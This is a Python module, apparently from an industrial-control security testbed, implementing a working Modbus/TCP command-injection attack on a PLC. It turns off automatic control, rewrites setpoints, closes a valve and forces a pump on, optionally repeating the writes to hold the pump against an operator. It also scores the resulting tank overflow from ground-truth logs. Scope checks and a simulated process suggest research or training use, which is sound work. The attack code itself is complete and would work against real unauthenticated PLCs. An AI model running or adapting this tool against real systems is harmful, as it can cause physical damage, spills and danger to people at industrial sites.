"""Modbus command injection: unauthorized writes to a PLC's coils and setpoints.

Run inside the attacker host::

    python -m attacks.inject --plan PLAN.json --targets 10.0.0.21 --out inject.json \\
        [--engine pymodbus|scapy] [--pump-on] [--auto-off] [--valve-close] \\
        [--set NAME=VALUE ...] [--process auto|tank|pressure] [--hold-s 0] [--period-s 1] \\
        [--port 502] [--unit-id 1] [--timeout-s 3]

The writes, in this order: ``auto_mode`` off (so the PLC logic stops driving the pump),
every ``--set`` (a coil or holding register by its register-map name, in engineering
units: ``--set level_high_sp=195``), ``valve_open`` off, the pump coil on (``pump_on`` on
the tank, ``pump_enable`` on the pressure station). Before writing it reads the PLC's
``process_id`` (input register 0) to pick the register map (unless ``--process`` names it)
and the tables it writes; after writing it reads them back. With ``--hold-s`` it repeats
the writes every ``--period-s`` for that long, as an attacker holding a pump on against an
operator would.

Engines:

- ``pymodbus``: the pymodbus 3.16 synchronous TCP client.
- ``scapy``: requests built with scapy's Modbus layers (``scapy.contrib.modbus``) and sent
  over a kernel TCP connection; replies framed by their MBAP length and decoded by scapy.
  The kernel's TCP (not scapy's) keeps the connection, so no firewall rule is needed to
  stop the kernel from resetting a hand-made handshake, and the host is left untouched.

Every request is recorded with its reply (a Modbus exception is data: ``outcome:
"exception"`` and its code), the raw frames for the scapy engine, and its latency. The
outcome also says whether the host's network state (iptables, addresses) is as before.

The impact is not the attacker's to see: :func:`tank_impact` computes it afterwards from
the PLC's ground-truth CSV (time until the level leaves its band, alarms, spilled water).

What it cannot do: write several registers in one request (functions 15/16), write input
registers or discrete inputs (Modbus has no function for that), or authenticate (Modbus/TCP
has no authentication, which is the point).
"""

from __future__ import annotations

import argparse
import csv
import logging
import math
import socket
import struct
import time
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from attacks.modbus_frames import MBAP_HEADER_BYTES, FrameError, reply_length
from common.cli import positive_float
from common.errors import UserError
from common.hostenv import (
    AttackContext,
    AttackOutcome,
    attack_parser,
    load_plan,
    run_attack,
    utc_now_iso,
)
from common.scope import ScopeError, expand_targets
from plc.registers import MAPS, MAPS_BY_ID, RegisterMap, Table

log = logging.getLogger(__name__)

ENGINES = ("pymodbus", "scapy")
PROCESSES = ("auto", *sorted(MAPS))
MODBUS_PORT = 502
DEFAULT_TIMEOUT_S = 3.0
DEFAULT_PERIOD_S = 1.0
MAX_HOLD_S = 600.0
MAX_WRITES = 10_000
MIN_PERIOD_S = 0.05
PUMP_COILS = ("pump_on", "pump_enable")
PROCESS_ID_ADDRESS = 0


# --- the write plan (pure) --------------------------------------------------------------
@dataclass(frozen=True)
class WriteSpec:
    """One write: a coil or holding register of the map, its raw and engineering value."""

    name: str
    table: str
    address: int
    raw: int
    value: float

    @property
    def function_code(self) -> int:
        return 5 if self.table == Table.COIL else 6


def _has(register_map: RegisterMap, name: str) -> bool:
    return any(r.name == name for r in register_map.registers)


def parse_assignment(text: str) -> tuple[str, float]:
    """argparse type: ``NAME=VALUE`` with a finite number VALUE (engineering units)."""
    name, sep, value_text = text.partition("=")
    name = name.strip()
    if not sep or not name:
        raise argparse.ArgumentTypeError(f"expected NAME=VALUE, got {text!r}")
    try:
        value = float(value_text)
    except ValueError:
        raise argparse.ArgumentTypeError(f"not a number in {text!r}") from None
    if not math.isfinite(value):
        raise argparse.ArgumentTypeError(f"not a finite number in {text!r}")
    return name, value


def write_plan(register_map: RegisterMap, pump_on: bool = False, auto_off: bool = False,
               valve_close: bool = False, assignments: Sequence[tuple[str, float]] = ()
               ) -> list[WriteSpec]:
    """The ordered writes for the flags against ``register_map``; ValueError names a misfit.

    Order: auto mode off, the ``--set`` assignments, valve closed, pump on: the logic is out
    of the loop before the outputs it would fight are written. Raw values are clamped to
    16 bits by the register's resolution (``Register.to_raw``).
    """
    wanted: list[tuple[str, float]] = []
    if auto_off:
        wanted.append(("auto_mode", 0.0))
    wanted.extend(assignments)
    if valve_close:
        wanted.append(("valve_open", 0.0))
    if pump_on:
        names = [n for n in PUMP_COILS if _has(register_map, n)]
        if not names:
            raise ValueError(f"the {register_map.process} map has no pump coil")
        wanted.append((names[0], 1.0))
    if not wanted:
        raise ValueError("nothing to write: give --pump-on, --auto-off, --valve-close or --set")
    plan = []
    for name, value in wanted:
        if not _has(register_map, name):
            raise ValueError(f"the {register_map.process} map has no register {name!r}")
        reg = register_map.get(name)
        if not reg.table.writable:
            raise ValueError(f"{name} is a {reg.table}: Modbus cannot write it")
        plan.append(WriteSpec(name=name, table=str(reg.table), address=reg.address,
                              raw=reg.to_raw(value), value=value))
    return plan


# --- engines ----------------------------------------------------------------------------
@dataclass
class Exchange:
    """One request and its reply, as recorded in the outcome's ``exchanges``.

    t_s: seconds since the attack started; latency_ms: request to reply.
    outcome: ``ok``, ``exception`` (``exception_code`` says which), ``timeout`` or ``error``.
    values: registers/bits read, or the (address, value) echo of a write.
    request_hex, reply_hex: the frames on the wire (scapy engine only).
    """

    t_s: float
    function_code: int
    address: int
    purpose: str
    request_value: int | None = None
    count: int = 1
    name: str = ""
    outcome: str = "error"
    exception_code: int | None = None
    values: list[int] = field(default_factory=list)
    latency_ms: float = 0.0
    error: str = ""
    request_hex: str = ""
    reply_hex: str = ""


class Engine:
    """A Modbus/TCP client; every call returns an :class:`Exchange` and never raises on I/O."""

    name = ""

    def __init__(self, host: str, port: int, unit_id: int, timeout_s: float) -> None:
        self.host, self.port, self.unit_id, self.timeout_s = host, port, unit_id, timeout_s

    def connect(self) -> None:
        """Open the connection; OSError (or ConnectionError) when the PLC does not answer."""
        raise NotImplementedError

    def close(self) -> None:
        raise NotImplementedError

    def request(self, ex: Exchange) -> Exchange:
        """Send ``ex`` (function, address, value or count), fill in its reply; return it."""
        raise NotImplementedError


class PymodbusEngine(Engine):
    """The pymodbus 3.16 synchronous client (``device_id`` keyword, no retries)."""

    name = "pymodbus"

    def __init__(self, host: str, port: int, unit_id: int, timeout_s: float) -> None:
        super().__init__(host, port, unit_id, timeout_s)
        from pymodbus.client import ModbusTcpClient

        self.client = ModbusTcpClient(host, port=port, timeout=timeout_s, retries=0)

    def connect(self) -> None:
        if not self.client.connect():
            raise ConnectionError(f"cannot connect to {self.host}:{self.port}")

    def close(self) -> None:
        self.client.close()

    def request(self, ex: Exchange) -> Exchange:
        from pymodbus.exceptions import ModbusException

        c, unit = self.client, self.unit_id
        start = time.monotonic()
        try:
            if ex.function_code == 5:
                rr = c.write_coil(ex.address, bool(ex.request_value), device_id=unit)
            elif ex.function_code == 6:
                rr = c.write_register(ex.address, int(ex.request_value or 0), device_id=unit)
            elif ex.function_code == 1:
                rr = c.read_coils(ex.address, count=ex.count, device_id=unit)
            elif ex.function_code == 3:
                rr = c.read_holding_registers(ex.address, count=ex.count, device_id=unit)
            elif ex.function_code == 4:
                rr = c.read_input_registers(ex.address, count=ex.count, device_id=unit)
            else:
                raise ValueError(f"function {ex.function_code} not supported here")
        except ModbusException as exc:
            ex.latency_ms = (time.monotonic() - start) * 1000
            ex.outcome = "timeout" if "timeout" in str(exc).lower() or \
                "no response" in str(exc).lower() else "error"
            ex.error = f"{type(exc).__name__}: {exc}"
            return ex
        ex.latency_ms = (time.monotonic() - start) * 1000
        if rr.isError():
            ex.outcome = "exception"
            ex.exception_code = int(getattr(rr, "exception_code", 0))
        else:
            ex.outcome = "ok"
            if ex.function_code == 1:
                ex.values = [int(b) for b in rr.bits[:ex.count]]
            elif ex.function_code in (3, 4):
                ex.values = [int(v) for v in rr.registers]
            else:
                ex.values = [ex.address, int(rr.bits[0]) if ex.function_code == 5
                             else int(rr.registers[0])]
        return ex


def scapy_request(transaction_id: int, unit_id: int, function_code: int, address: int,
                  value_or_count: int) -> bytes:
    """A request ADU built by scapy's Modbus layers (functions 1, 3, 4, 5, 6)."""
    from scapy.contrib import modbus as mb

    pdu: Any
    if function_code == 1:
        pdu = mb.ModbusPDU01ReadCoilsRequest(startAddr=address, quantity=value_or_count)
    elif function_code == 3:
        pdu = mb.ModbusPDU03ReadHoldingRegistersRequest(startAddr=address,
                                                        quantity=value_or_count)
    elif function_code == 4:
        pdu = mb.ModbusPDU04ReadInputRegistersRequest(startAddr=address,
                                                      quantity=value_or_count)
    elif function_code == 5:
        pdu = mb.ModbusPDU05WriteSingleCoilRequest(
            outputAddr=address, outputValue=0xFF00 if value_or_count else 0x0000)
    elif function_code == 6:
        pdu = mb.ModbusPDU06WriteSingleRegisterRequest(registerAddr=address,
                                                       registerValue=value_or_count)
    else:
        raise ValueError(f"function {function_code} not supported here")
    return bytes(mb.ModbusADURequest(transId=transaction_id, unitId=unit_id) / pdu)


def scapy_reply(data: bytes) -> tuple[int, int | None, list[int]]:
    """Decode one reply ADU with scapy: (function code, exception code or None, values)."""
    from scapy.contrib.modbus import ModbusADUResponse

    pdu = ModbusADUResponse(data).payload
    fc = int(pdu.funcCode)
    if fc & 0x80:
        return fc & 0x7F, int(pdu.exceptCode), []
    if fc in (1, 2):
        return fc, None, [(byte >> i) & 1 for byte in pdu.coilStatus for i in range(8)]
    if fc in (3, 4):
        return fc, None, [int(v) for v in pdu.registerVal]
    if fc == 5:
        return fc, None, [int(pdu.outputAddr), int(pdu.outputValue == 0xFF00)]
    if fc == 6:
        return fc, None, [int(pdu.registerAddr), int(pdu.registerValue)]
    raise FrameError(f"unexpected reply function {fc}")


class ScapyEngine(Engine):
    """Frames built and decoded by scapy, carried by a kernel TCP socket (see the module doc)."""

    name = "scapy"

    def __init__(self, host: str, port: int, unit_id: int, timeout_s: float) -> None:
        super().__init__(host, port, unit_id, timeout_s)
        self.sock: socket.socket | None = None
        self.transaction_id = 0

    def connect(self) -> None:
        self.sock = socket.create_connection((self.host, self.port), timeout=self.timeout_s)

    def close(self) -> None:
        if self.sock is not None:
            self.sock.close()
            self.sock = None

    def _recv_exactly(self, n: int) -> bytes:
        assert self.sock is not None
        data = b""
        while len(data) < n:
            chunk = self.sock.recv(n - len(data))
            if not chunk:
                raise ConnectionError("the PLC closed the connection")
            data += chunk
        return data

    def request(self, ex: Exchange) -> Exchange:
        self.transaction_id = (self.transaction_id + 1) & 0xFFFF
        argument = ex.count if ex.function_code in (1, 3, 4) else int(ex.request_value or 0)
        frame = scapy_request(self.transaction_id, self.unit_id, ex.function_code, ex.address,
                              argument)
        ex.request_hex = frame.hex()
        start = time.monotonic()
        try:
            if self.sock is None:
                raise ConnectionError("not connected")
            self.sock.sendall(frame)
            header = self._recv_exactly(MBAP_HEADER_BYTES)
            reply = header + self._recv_exactly(reply_length(header) - MBAP_HEADER_BYTES)
        except TimeoutError:
            ex.latency_ms = (time.monotonic() - start) * 1000
            ex.outcome, ex.error = "timeout", f"no reply within {self.timeout_s:g} s"
            return ex
        except (OSError, FrameError) as exc:
            ex.latency_ms = (time.monotonic() - start) * 1000
            ex.outcome, ex.error = "error", f"{type(exc).__name__}: {exc}"
            self.close()
            return ex
        ex.latency_ms = (time.monotonic() - start) * 1000
        ex.reply_hex = reply.hex()
        tid = struct.unpack_from(">H", reply)[0]
        if tid != self.transaction_id:
            ex.outcome, ex.error = "error", f"reply transaction id {tid} != {self.transaction_id}"
            return ex
        _fc, exception_code, values = scapy_reply(reply)
        if exception_code is not None:
            ex.outcome, ex.exception_code = "exception", exception_code
        else:
            ex.outcome = "ok"
            ex.values = values[:ex.count] if ex.function_code == 1 else values
        return ex


ENGINE_CLASSES: dict[str, type[Engine]] = {"pymodbus": PymodbusEngine, "scapy": ScapyEngine}


# --- impact on the process (pure) ------------------------------------------------------
@dataclass(frozen=True)
class TankImpact:
    """What an injection did to the tank, from the PLC's ground truth.

    attack_t_s: the attack's start on the PLC's clock (the CSV's ``t_s``).
    high_sp_cm, low_sp_cm: the band as it stood before the attack (last row before it).
    above_high_sp_after_s, alarm_high_high_after_s, alarm_overflow_after_s: seconds from the
        attack to the first row with the level above the old high setpoint / the alarm bit
        set; None when it never happened in the rows given.
    spilled_l: water spilled over the rim after the attack.
    left_band: the level went above the old high setpoint or below the old low setpoint.
    """

    attack_t_s: float
    level_at_attack_cm: float
    high_sp_cm: float
    low_sp_cm: float
    max_level_cm: float
    min_level_cm: float
    above_high_sp_after_s: float | None
    below_low_sp_after_s: float | None
    alarm_high_high_after_s: float | None
    alarm_overflow_after_s: float | None
    spilled_l: float
    observed_s: float
    left_band: bool

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)


def read_state_csv(lines: Iterable[str]) -> list[dict[str, float]]:
    """Ground-truth CSV text (header included) as rows of floats; a torn last row is skipped."""
    rows = []
    for row in csv.DictReader(lines):
        try:
            rows.append({k: float(v) for k, v in row.items()})
        except (TypeError, ValueError):
            continue
    return rows


def tank_impact(rows: Sequence[Mapping[str, float]], attack_t_s: float) -> TankImpact:
    """The impact on the tank of an attack that started at ``attack_t_s`` (PLC clock).

    rows: ground-truth rows in time order (``plc.server --state-csv``, tank columns).
    Raises ValueError when no row is at or after the attack or none is before it (no band).
    """
    before = [r for r in rows if r["t_s"] < attack_t_s]
    after = [r for r in rows if r["t_s"] >= attack_t_s]
    if not before or not after:
        raise ValueError(f"need rows before and after t_s={attack_t_s} "
                         f"({len(before)} before, {len(after)} after)")
    ref = before[-1]
    high, low = ref["level_high_sp_cm"], ref["level_low_sp_cm"]

    def first(predicate: Any) -> float | None:
        for r in after:
            if predicate(r):
                return round(r["t_s"] - attack_t_s, 4)
        return None

    above = first(lambda r: r["level_cm"] > high)
    below = first(lambda r: r["level_cm"] < low)
    levels = [r["level_cm"] for r in after]
    return TankImpact(
        attack_t_s=attack_t_s,
        level_at_attack_cm=ref["level_cm"],
        high_sp_cm=high,
        low_sp_cm=low,
        max_level_cm=max(levels),
        min_level_cm=min(levels),
        above_high_sp_after_s=above,
        below_low_sp_after_s=below,
        alarm_high_high_after_s=first(lambda r: r["alarm_high_high"] >= 1),
        alarm_overflow_after_s=first(lambda r: r["alarm_overflow"] >= 1),
        spilled_l=round(after[-1]["spilled_l"] - ref["spilled_l"], 4),
        observed_s=round(after[-1]["t_s"] - attack_t_s, 4),
        left_band=above is not None or below is not None,
    )


def tank_impact_from_csv(path: Path, attack_t_s: float) -> TankImpact:
    """:func:`tank_impact` of a ground-truth CSV file."""
    with open(path, newline="") as handle:
        return tank_impact(read_state_csv(handle), attack_t_s)


# --- CLI --------------------------------------------------------------------------------
@dataclass(kw_only=True)
class InjectOutcome(AttackOutcome):
    """The injection outcome: :class:`AttackOutcome` plus what was written and answered.

    process: the register map used (read from the PLC or given by --process).
    writes: the planned writes (:class:`WriteSpec`); exchanges: every request and reply.
    writes_ok / writes_refused: write replies that were normal / Modbus exceptions.
    readback: table -> values read after the writes.
    host_state_diff: differences of the host's network state after vs. before (empty).
    """

    engine: str
    target: str = ""
    port: int = MODBUS_PORT
    unit_id: int = 1
    process: str = ""
    process_id: int | None = None
    writes: list[dict[str, Any]] = field(default_factory=list)
    exchanges: list[Exchange] = field(default_factory=list)
    writes_ok: int = 0
    writes_refused: int = 0
    first_write_s: float | None = None
    last_write_s: float | None = None
    readback: dict[str, list[int]] = field(default_factory=dict)
    host_state_diff: list[str] = field(default_factory=list)


def build_parser() -> argparse.ArgumentParser:
    """The injection command line (see the module docstring)."""
    parser = attack_parser("attacks.inject",
                           "Unauthorized Modbus writes to a PLC's coils and setpoints.")
    parser.add_argument("--engine", choices=ENGINES, default="pymodbus")
    parser.add_argument("--pump-on", action="store_true", help="force the pump coil on")
    parser.add_argument("--auto-off", action="store_true",
                        help="switch the auto_mode coil off (the logic stops driving the pump)")
    parser.add_argument("--valve-close", action="store_true",
                        help="close the outflow valve (tank)")
    parser.add_argument("--set", dest="assignments", action="append", default=[],
                        type=parse_assignment, metavar="NAME=VALUE",
                        help="write a coil or holding register by map name, engineering units "
                             "(repeatable)")
    parser.add_argument("--process", choices=PROCESSES, default="auto",
                        help="register map; auto reads process_id from the PLC")
    parser.add_argument("--hold-s", type=float, default=0.0,
                        help=f"repeat the writes for this long (0..{MAX_HOLD_S:g} s)")
    parser.add_argument("--period-s", type=positive_float, default=DEFAULT_PERIOD_S,
                        help="interval between repeated writes")
    parser.add_argument("--port", type=int, default=MODBUS_PORT)
    parser.add_argument("--unit-id", type=int, default=1)
    parser.add_argument("--timeout-s", type=positive_float, default=DEFAULT_TIMEOUT_S,
                        help="per-request reply timeout")
    return parser


def _rounds(args: argparse.Namespace) -> int:
    return 1 + int(args.hold_s // args.period_s) if args.hold_s > 0 else 1


def _validate(args: argparse.Namespace) -> None:
    if not 0 <= args.hold_s <= MAX_HOLD_S or not math.isfinite(args.hold_s):
        raise UserError(f"--hold-s {args.hold_s:g} outside 0..{MAX_HOLD_S:g}")
    if args.period_s < MIN_PERIOD_S:
        raise UserError(f"--period-s {args.period_s:g} below {MIN_PERIOD_S:g}")
    if not 1 <= args.port <= 65535:
        raise UserError(f"--port {args.port} outside 1..65535")
    if not 0 <= args.unit_id <= 255:
        raise UserError(f"--unit-id {args.unit_id} outside 0..255")
    try:
        targets = expand_targets(load_plan(args.plan), args.targets)
    except ScopeError as exc:
        raise UserError(str(exc)) from None
    if len(targets) != 1:
        raise UserError(f"--targets {args.targets!r}: give exactly one PLC address")
    maps = MAPS.values() if args.process == "auto" else [MAPS[args.process]]
    errors = []
    for register_map in maps:
        try:
            plan = write_plan(register_map, args.pump_on, args.auto_off, args.valve_close,
                              args.assignments)
        except ValueError as exc:
            errors.append(str(exc))
            continue
        if len(plan) * _rounds(args) > MAX_WRITES:
            raise UserError(f"{len(plan) * _rounds(args)} writes exceed the bound of "
                             f"{MAX_WRITES}: shorten --hold-s or lengthen --period-s")
    if len(errors) == len(list(maps)):
        raise UserError(errors[0])


def _new_outcome(args: argparse.Namespace, targets: tuple[str, ...]) -> InjectOutcome:
    return InjectOutcome(attack="inject", parameters={}, targets=list(targets),
                         started_at=utc_now_iso(), engine=args.engine, target=targets[0],
                         port=args.port, unit_id=args.unit_id)


def snapshot_host() -> Any:
    """The host's network state, or None where the tools to read it are missing."""
    from common.netstate import NetStateError, take_snapshot

    try:
        return take_snapshot()
    except NetStateError as exc:
        log.warning("cannot snapshot the host's network state: %s", exc)
        return None


def host_state_diff(before: Any) -> list[str]:
    """Differences of the host's network state now vs. ``before`` (a line each; [] = same)."""
    from common.netstate import diff_snapshots

    if before is None:
        return ["not checked: no snapshot before the attack"]
    after = snapshot_host()
    return diff_snapshots(before, after) if after is not None else ["not checked after"]


def _body(ctx: AttackContext) -> None:
    args = ctx.args
    outcome = ctx.outcome
    assert isinstance(outcome, InjectOutcome)
    before = snapshot_host()
    engine = ENGINE_CLASSES[args.engine](outcome.target, args.port, args.unit_id,
                                         args.timeout_s)

    def send(function_code: int, address: int, purpose: str, value: int | None = None,
             count: int = 1, name: str = "") -> Exchange:
        ex = Exchange(t_s=round(ctx.elapsed_s(), 6), function_code=function_code,
                      address=address, purpose=purpose, request_value=value, count=count,
                      name=name)
        outcome.exchanges.append(ex)
        return engine.request(ex)

    try:
        engine.connect()
        if args.process == "auto":
            ex = send(4, PROCESS_ID_ADDRESS, "identify", name="process_id")
            if ex.outcome != "ok" or not ex.values or ex.values[0] not in MAPS_BY_ID:
                raise RuntimeError(f"cannot identify the process: {ex.outcome} {ex.values} "
                                   f"{ex.error}")
            outcome.process_id = ex.values[0]
            register_map = MAPS_BY_ID[ex.values[0]]
        else:
            register_map = MAPS[args.process]
        outcome.process = register_map.process
        plan = write_plan(register_map, args.pump_on, args.auto_off, args.valve_close,
                          args.assignments)
        outcome.writes = [asdict(w) for w in plan]
        tables = sorted({w.table for w in plan})
        for table in tables:
            t = Table(table)
            send(t.read_function, 0, "read_before", count=register_map.count(t))
        rounds_start_s = ctx.elapsed_s()
        for round_index in range(_rounds(args)):
            wait_s = round_index * args.period_s - (ctx.elapsed_s() - rounds_start_s)
            if wait_s > 0:
                time.sleep(wait_s)
            for w in plan:
                ex = send(w.function_code, w.address, "write", value=w.raw, name=w.name)
                if outcome.first_write_s is None:
                    outcome.first_write_s = ex.t_s
                outcome.last_write_s = ex.t_s
                if ex.outcome == "ok":
                    outcome.writes_ok += 1
                elif ex.outcome == "exception":
                    outcome.writes_refused += 1
                else:
                    engine.close()
                    engine.connect()
        for table in tables:
            t = Table(table)
            ex = send(t.read_function, 0, "read_after", count=register_map.count(t))
            if ex.outcome == "ok":
                outcome.readback[table] = ex.values
        log.info("inject (%s): %d write(s) accepted, %d refused on %s (%s)", engine.name,
                 outcome.writes_ok, outcome.writes_refused, outcome.target, outcome.process)
    finally:
        engine.close()
        outcome.host_state_diff = host_state_diff(before)


def main(argv: Sequence[str] | None = None) -> int:
    """Run the injection; returns the exit status (0 ok, 1 failed, 2 refused, 128+N signal N)."""
    return run_attack(parser=build_parser(), argv=argv, new_outcome=_new_outcome, body=_body,
                      validate=_validate)


if __name__ == "__main__":
    raise SystemExit(main())
